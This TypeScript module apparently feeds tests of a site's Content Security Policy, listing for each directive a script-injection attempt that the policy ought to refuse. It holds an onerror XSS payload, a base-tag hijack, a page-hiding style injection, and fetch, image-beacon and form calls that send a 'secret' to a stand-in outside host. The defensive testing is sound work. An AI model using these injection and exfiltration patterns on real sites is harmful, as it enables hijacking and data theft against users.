/** What an injected script could try, by the directive of the policy that refuses it. */
export const attempts = {
  'base-uri': () => {
    document.head.append(
      Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }),
    )
  },
  'require-trusted-types-for': () => {
    try {
      document.body.innerHTML = '<img src=x onerror="document.title = \'taken\'">'
    } catch {}
    // A string is not a trusted script either.
    try {
      document.createElement('script').text = 'document.title = "taken"'
    } catch {}
    try {
      document.createElement('object').data = '/favicon.svg'
    } catch {}
  },
  'trusted-types': () => {
    try {
      Object(window).trustedTypes.createPolicy('another', {})
    } catch {}
  },
  'style-src-elem': () => {
    const style = document.createElement('style')
    style.textContent = 'body { display: none }'
    document.head.append(style)
  },
  'connect-src': () => fetch('https://elsewhere.example/?secret').catch(() => {}),
  'img-src': () => {
    new Image().src = 'https://elsewhere.example/?secret'
  },
  'form-action': () => {
    const action = 'https://elsewhere.example/'
    const form = Object.assign(document.createElement('form'), { action })
    document.body.append(form)
    form.submit()
  },
} satisfies Readonly<Record<string, () => unknown>>
